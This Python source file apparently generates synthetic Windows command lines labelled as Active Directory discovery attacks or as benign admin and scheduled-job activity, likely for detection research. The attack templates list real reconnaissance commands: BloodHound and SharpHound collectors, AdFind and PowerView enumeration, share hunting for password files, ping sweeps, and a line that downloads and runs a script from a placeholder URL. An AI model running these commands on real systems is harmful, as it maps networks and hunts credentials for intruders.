"""Questions about accounts, groups, computers and trusts of a domain, hostile and of every day."""

from __future__ import annotations

from generator.families.windows.commands_told import AGENTS, JOBS, PROMPT, STRANGE, told
from generator.scene import attack, benign

ADMIN, JOB = benign("Administration"), benign("Scheduled Job")


def discovery(*techniques: str, severity: str = "MEDIUM"):
    return attack("Discovery", *techniques, severity=severity)


told("discovery-local-groups", discovery("T1069.001", "T1087.001"), r"""
net localgroup
net localgroup administrators
net1 localgroup "Remote Desktop Users"
net localgroup «Administratoren|Administrateurs|Administradores»
C:\Windows\system32\net1.exe localgroup "Remote Management Users"
wmic group list brief
wmic path win32_groupuser where (groupcomponent="win32_group.name='administrators',domain='@me@'")
powershell -c "Get-LocalGroup; Get-LocalGroupMember -Group Administrators"
powershell -nop -w hidden -c "Get-LocalGroupMember -SID S-1-5-32-544 | ft Name,PrincipalSource"
powershell -c "([ADSI]'WinNT://./Administrators,group').psbase.Invoke('Members') | % {$_.GetType().InvokeMember('Name','GetProperty',$null,$_,$null)}"
powershell -ep bypass -c "IEX(gc .\pv.ps1 -raw); Get-NetLocalGroup -ComputerName @host@"
cmd.exe /c net localgroup administrators > @tmp@@word@.txt
@tmp@SharpUp.exe audit
@tmp@Seatbelt.exe LocalGroups LocalUsers
""", parents=STRANGE, users=(None, "SYSTEM"), most=3)

told("discovery-domain-groups", discovery("T1069.002"), r"""
net group /domain
net group "Domain Admins" /domain
net groups "Enterprise Admins" /domain
net1 group "Domain Computers" /do
net group "Schema Admins" /dom
net group "«Exchange Trusted Subsystem|Organization Management|DnsAdmins|Backup Operators|VMware Admins|ESX Admins»" /domain
net group "Domänen-Admins" /domain
net group "Admins du domaine" /domain
cmd /c net group "Domain Controllers" /domain >> @tmp@@word@.txt
dsquery group -name "*admin*" -limit 0
dsquery * -filter "(&(objectClass=group)(name=*admin*))" -attr samaccountname
dsget group "CN=Domain Admins,CN=Users,DC=@company@,DC=local" -members -expand
powershell -c "Get-ADGroupMember -Identity 'Domain Admins' -Recursive | select samaccountname"
powershell -nop -ep bypass -c "Import-Module .\PowerView.ps1; Get-DomainGroupMember 'Domain Admins' -Recurse"
powershell -c "([adsisearcher]'(memberOf=CN=Domain Admins,CN=Users,DC=@company@,DC=local)').FindAll()"
adfind.exe -sc adinfo -default -f "(objectcategory=group)" samaccountname > @tmp@ad_group.txt
@tmp@@word@.exe -f (objectcategory=group) -csv ## AdFind.exe
gpresult /scope computer /z > @tmp@@word@.txt
powershell -c "Get-DomainGPOLocalGroup | fl GPODisplayName,GroupName"
""", parents=STRANGE, users=(None, "SYSTEM"), most=4)

told("discovery-local-accounts", discovery("T1087.001"), r"""
net user
net1 user
net user administrator
net user guest
wmic useraccount list full
wmic useraccount where "disabled='FALSE'" get name,sid /format:list
powershell -c "Get-LocalUser | ft Name,Enabled,LastLogon,PasswordRequired"
powershell.exe -w hidden -c "Get-CimInstance Win32_UserAccount -Filter 'LocalAccount=True'"
cmd /c dir C:\Users /b
cmd.exe /c dir /b "C:\Documents and Settings" C:\Users > @tmp@@word@.txt
reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\ProfileList" /s
cmdkey /list
reg query HKU
powershell -c "[adsi]'WinNT://.' | % {$_.Children} | ? {$_.SchemaClassName -eq 'user'} | select Name"
cmd /c net user > %PUBLIC%\u.txt & net localgroup >> %PUBLIC%\u.txt
""", parents=STRANGE, users=(None, "SYSTEM"), most=3)

told("discovery-domain-accounts", discovery("T1087.002"), r"""
net user /domain
net1 user /domain > @tmp@@word@.txt
net user @user@ /domain
net user «krbtgt|administrator|svc_sql|veeam» /domain
net accounts /domain
dsquery user -limit 0
dsquery * -filter "(&(objectCategory=person)(objectClass=user))" -attr * -limit 0 > @tmp@@word@.txt
dsquery user domainroot -inactive 12 -limit 500
csvde -f @tmp@@word@.csv -r "(objectClass=user)"
ldifde -f C:\Windows\Temp\@word@.ldf -d "DC=@company@,DC=local" -r "(objectcategory=person)"
AdFind.exe -f "(objectcategory=person)" sAMAccountName mail description > @tmp@ad_users.txt
@tmp@@word@.exe -b dc=@company@,dc=local -f "objectcategory=person" -csv name pwdlastset lastlogontimestamp ## AdFind.exe
af.exe -f "&(objectcategory=person)(admincount=1)" -dn
powershell -nop -c "Get-ADUser -Filter * -Properties * | Export-Csv @tmp@@word@.csv"
powershell -ep bypass -c ". .\PowerView.ps1; Get-DomainUser -AdminCount -Properties samaccountname,description"
powershell -c "Get-DomainUser -SPN | select samaccountname,serviceprincipalname"
powershell -w hidden -c "$s=New-Object DirectoryServices.DirectorySearcher('(objectClass=user)');$s.PageSize=1000;$s.FindAll() | % {$_.Properties.samaccountname}"
@tmp@SharpView.exe Get-DomainUser -Identity * -Domain @fqdn@
@tmp@StandIn.exe --object samaccountname=@user@
@tmp@ldapsearch.exe -h @dc@ -b "DC=@company@,DC=local" "(userAccountControl:1.2.840.113556.1.4.803:=4194304)"
@tmp@windapsearch.exe -d @fqdn@ -u @user@ -p @pw@ -m users --full
wmic /namespace:\\root\directory\ldap path ds_user get ds_samaccountname
wmic ntdomain list /format:list & wmic useraccount get domain,name
""", parents=STRANGE, users=(None, "SYSTEM"), most=4)

told("discovery-domain-computers", discovery("T1018"), r"""
net view
net view /all /domain
net view /domain:@domain@
net group "Domain Computers" /domain
nltest /dclist:@fqdn@
nltest /dsgetdc:@domain@ /force
nltest /dsgetdc: /pdc & net view \\@dc@ /all
dsquery computer -limit 0
dsquery server -isgc
dsquery * -filter "(objectcategory=computer)" -attr cn operatingSystem dnshostname -limit 0
AdFind.exe -f "objectcategory=computer" cn operatingSystem > ad_computers.txt
adfind.exe -sc computers_active -csv > @tmp@@word@.csv
@tmp@@word@.exe -subnets -f (objectCategory=subnet) ## AdFind.exe
powershell -nop -c "Get-ADComputer -Filter {enabled -eq $true} -Properties OperatingSystem,IPv4Address | Out-File @tmp@@word@.txt"
powershell -ep bypass -c "Invoke-Expression (gc PowerView.ps1 | out-string); Get-DomainComputer -Ping; Get-NetDomainController"
powershell -c "([adsisearcher]'(&(objectCategory=computer)(operatingSystem=*server*))').FindAll().Path"
cmd /c for /L %i in (1,1,254) do @ping -n 1 -w 100 192.168.@n@.%i | find "TTL" >> @tmp@@word@.txt
for /l %i in (1,1,255) do ping -a 10.@n@.@n@.%i -n 1 -w 200 | findstr Reply
powershell -c "1..254 | % {Test-Connection -Count 1 -Quiet -ComputerName 10.@n@.@n@.$_}"
powershell -w hidden -c "foreach($c in gc .\pc.txt){if(Test-Connection $c -Count 1 -Quiet){$c >> live.txt}}"
cmd /c for /f %i in (@tmp@hosts.txt) do nslookup %i >> @tmp@ips.txt
nslookup -querytype=ALL -timeout=10 _ldap._tcp.dc._msdcs.@fqdn@
netdom query dc
@tmp@netview.exe -f hosts.txt -o shares.txt
""", parents=STRANGE + ("@tmp@@word@.bat",), users=(None, "SYSTEM"), most=4)

told("discovery-shares-hunted", discovery("T1018", "T1083"), r"""
net view \\@host@ /all
cmd /c for /f %a in (@tmp@hosts.txt) do net view \\%a /all >> @tmp@shares.txt
net share > @tmp@@word@.txt
wmic /node:@ip@ share get name,path
powershell -ep bypass -c "Import-Module .\PowerView.ps1; Find-DomainShare -CheckShareAccess"
powershell -nop -c "Invoke-ShareFinder -ExcludeStandard -ExcludePrint -Verbose | Out-File -Encoding ascii C:\ProgramData\found_shares.txt"
powershell -c "Find-InterestingDomainShareFile -Include *.kdbx,*pass*,*.vmdk"
powershell Invoke-FileFinder -SearchTerms «password|vpn|backup|insurance»
@tmp@SharpShares.exe /ldap:all /filter:sysvol,netlogon,ipc$,print$
@tmp@Snaffler.exe -s -o @tmp@@word@.log -d @fqdn@
@tmp@@word@.exe -s -u -o s.log -n @host@,@host@ ## Snaffler.exe
@tmp@smbmap.exe -H @ip@ -u @user@ -p @pw@ -R
@tmp@nxc.exe smb 10.@n@.@n@.0/24 -u @user@ -p @pw@ --shares
@tmp@netscan.exe /hide /auto:"C:\ProgramData\result.xml" /range:10.@n@.0.0-10.@n@.255.255
powershell -c "Get-ADComputer -Filter * | % {net view \\$($_.Name)}"
powershell -ep bypass -c "Invoke-HuntSMBShares -Threads 100 -OutputDirectory C:\Users\Public"
""", parents=STRANGE, most=3)

told("discovery-trusts", discovery("T1482"), r"""
nltest /domain_trusts
nltest /domain_trusts /all_trusts /v
nltest.exe /trusted_domains
nltest /server:@dc@ /domain_trusts
cmd /c nltest /domain_trusts /all_trusts >> @tmp@@word@.txt
dsquery * -filter "(objectClass=trustedDomain)" -attr *
dsquery * cn=system,dc=@company@,dc=local -filter "(objectclass=trusteddomain)" -attr cn trustdirection
netdom query trust
netdom trust @domain@ /domain:@fqdn@ /verify
adfind.exe -gcb -sc trustdmp > @tmp@trustdmp.txt
@tmp@@word@.exe -sc trustdmp ## AdFind.exe
AdFind.exe -f "objectclass=trusteddomain" -dn
powershell -c "Get-ADTrust -Filter * | fl Name,Direction,ForestTransitive"
powershell -nop -c "([System.DirectoryServices.ActiveDirectory.Domain]::GetCurrentDomain()).GetAllTrustRelationships()"
powershell -nop -c "[System.DirectoryServices.ActiveDirectory.Forest]::GetCurrentForest().GetAllTrustRelationships()"
powershell -ep bypass -c ". .\pv.ps1; Get-DomainTrustMapping -API; Get-ForestTrust"
powershell -c "Invoke-MapDomainTrust | Export-Csv -NoTypeInformation trusts.csv"
@tmp@SharpView.exe Get-DomainTrust
gpresult /z | findstr /i "trust domain"
""", parents=STRANGE, users=(None, "SYSTEM"), most=3)

told("discovery-directory-collectors", discovery("T1087.002", "T1069.002", "T1482", severity="HIGH"), r"""
@tmp@SharpHound.exe -c All,GPOLocalGroup --stealth --zippassword @pw@
@tmp@@word@.exe --CollectionMethods All --OutputDirectory C:\Users\Public --ZipFileName @word@.zip ## SharpHound.exe
@tmp@@word@.exe -c DCOnly --ldapusername @user@ --ldappassword @pw@ -d @fqdn@ --memcache ## SharpHound.exe
@tmp@@word@.exe -c Session --loop --loopduration 02:00:00 --nosavecache ## SharpHound.exe
powershell -ep bypass -nop -c "IEX(IWR @url@/SharpHound.ps1 -UseBasicParsing); Invoke-BloodHound -CollectionMethod All -NoSaveCache"
powershell -exec bypass -c "Import-Module .\sh.ps1; Invoke-BloodHound -CollectAllProperties -OutputPrefix @word@"
python.exe -m bloodhound -u @user@ -p @pw@ -d @fqdn@ -dc @dc@.@fqdn@ -c all --zip
@tmp@rusthound.exe -d @fqdn@ -u @user@ -p @pw@ -o C:\ProgramData --zip
@tmp@AzureHound.exe list -u @user@@@fqdn@ -p @pw@ -t @fqdn@ -o az.json
ADExplorer64.exe -accepteula -snapshot "" C:\Users\Public\@word@.dat
@tmp@@word@.exe -snapshot @dc@ @tmp@snap.dat -noconnectprompt ## AdExp
powershell -ep bypass -file @tmp@ADRecon.ps1 -OutputType CSV -OutputDir C:\ProgramData\@word@
powershell -nop -ep bypass -c ".\adPEAS.ps1; Invoke-adPEAS -Domain @fqdn@ -Outputfile out"
cmd /c adfind.exe -f (objectcategory=person) > ad_users.txt & adfind.exe -f objectcategory=computer > ad_computers.txt & adfind.exe -f (objectcategory=organizationalUnit) > ad_ous.txt & adfind.exe -sc trustdmp > trustdmp.txt & 7.exe a -mx3 ad.7z ad_*
@tmp@ldapdomaindump.exe -u @domain@\@user@ -p @pw@ ldap://@dc@ -o C:\Users\Public\ldd
@tmp@SilentHound.exe -u @user@ -d @fqdn@ -g -n
@tmp@PowerHuntShares.exe & @tmp@Group3r.exe -f gpo.log
@tmp@SOAPHound.exe --buildcache -c c:\temp\cache.txt --bhdump -o c:\temp\bh
""", parents=PROMPT + STRANGE[:6], most=2, weight=1.3)

told("discovery-directory-by-admins", ADMIN, r"""
net user @other@ /domain
net user @user@ /domain | findstr /i expires
net group "Domain Admins" /domain
net group "GG_«Sales|Einkauf|VPN|Drucker»" /domain
net accounts
net accounts /domain
net localgroup administrators
net localgroup "Remote Desktop Users" @domain@\@other@ /add
dsquery user -name @other@*
dsquery user -inactive 12 -limit 0 | dsmod user -disabled yes
dsquery computer -stalepwd 180 -limit 0
dsquery computer -name @pc@
dsget user "CN=@Word@,OU=Staff,DC=@company@,DC=local" -memberof
dsquery ou
csvde -f C:\Temp\users.csv -d "OU=Staff,DC=@company@,DC=local" -l "cn,mail,telephoneNumber"
ldifde -i -f C:\Install\schema.ldf -c "DC=X" "DC=@company@,DC=local"
nltest /sc_verify:@fqdn@
nltest /sc_query:@domain@
nltest /dsgetsite
nltest /dsgetdc:@fqdn@
nltest /dclist:@fqdn@
netdom query fsmo
netdom verify @pc@ /domain:@fqdn@
repadmin /replsummary
repadmin /showrepl @dc@
dcdiag /e /v /f:C:\Temp\dcdiag.txt
dcdiag /test:dns /dnsall
gpresult /h C:\Temp\gpo-@n@.html
powershell.exe -c "Get-ADUser @other@ -Properties LockedOut,PasswordLastSet,MemberOf"
powershell -c "Get-ADGroupMember 'GG_VPN' | Export-Csv C:\Temp\vpn.csv -NoTypeInformation"
powershell -c "Search-ADAccount -AccountInactive -TimeSpan 90 -UsersOnly"
powershell -c "Get-ADComputer -Filter 'OperatingSystem -like \"*2012*\"' | ft Name"
powershell -c "Get-LocalGroupMember Administrators"
"C:\Windows\system32\mmc.exe" "C:\Windows\system32\dsa.msc"
"C:\Windows\system32\mmc.exe" C:\Windows\system32\domain.msc
"C:\Tools\SysinternalsSuite\ADExplorer.exe"
setspn -L @svc@
net view \\@host@
net share
""", most=4, weight=2)

told("discovery-directory-by-jobs", JOB, r"""
powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\Scripts\«ADUserReport|InactiveUsers|GroupAudit|PasswordExpiry».ps1
powershell.exe -NonInteractive -File "D:\Scripts\Export-ADUsers.ps1" -OutFile \\@host@\reports$\users.csv
powershell -NoProfile -Command "Get-ADUser -Filter * -Properties PasswordLastSet | Export-Csv D:\Reports\pwd.csv"
csvde -f D:\Sync\telefonbuch.csv -r "(&(objectClass=user)(telephoneNumber=*))" -l cn,telephoneNumber
ldifde -f D:\Backup\ad-@year@.ldf -d "DC=@company@,DC=local"
dsquery user -inactive 8 -limit 0
cscript //nologo C:\Scripts\adreport.vbs
net group "Domain Admins" /domain
net localgroup administrators
repadmin /showrepl * /csv
dcdiag /q
nltest /sc_query:@domain@
nltest /domain_trusts
"C:\Program Files\PingCastle\PingCastle.exe" --healthcheck --server @fqdn@ --level Full
"C:\Program Files\Microsoft Azure AD Sync\Bin\miiserver.exe"
"C:\Program Files (x86)\ManageEngine\ADAudit Plus\bin\adap.exe" --report groups
"C:\Program Files\Netwrix Auditor\Active Directory Auditing\adcr.exe" -collect
"C:\Program Files\Lepide\LepideAuditor\LepideADAgent.exe" /snapshot
"C:\Program Files\Varonis\DatAdvantage\vrnsDirWalk.exe" -domain @fqdn@
gpresult /scope computer /x D:\Reports\rsop.xml /f
net view /domain:@domain@
ping -n 2 @dc@
""", parents=JOBS + AGENTS[:6], users=("SYSTEM", None, "svc_report"), most=4, weight=1.5)
